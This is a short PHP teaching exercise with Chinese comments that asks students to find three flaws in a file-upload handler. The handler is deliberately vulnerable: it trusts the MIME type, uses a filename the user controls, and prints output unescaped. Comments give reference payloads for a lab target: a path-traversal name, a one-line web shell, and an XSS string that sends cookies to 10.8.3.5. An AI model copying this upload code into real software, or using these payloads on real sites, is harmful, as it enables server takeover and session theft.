<?php
// 练习二：找出三处问题，写在旁边
$dir = __DIR__ . '/uploads/';
$type = $_FILES['f']['type'];
if ($type !== 'image/jpeg' && $type !== 'image/png') {
    die('只能上传图片');
}
$name = $_POST['name'] ?: $_FILES['f']['name'];
move_uploaded_file($_FILES['f']['tmp_name'], $dir . $name);
echo "<a href='uploads/$name'>查看</a>";

// 参考请求（机房靶机）
// POST name=../index.php
// POST name=a.php，内容 <?php system($_GET['c']);
// 页面里的 name 还能放 '><script>new Image().src='http://10.8.3.5/?'+document.cookie</script>
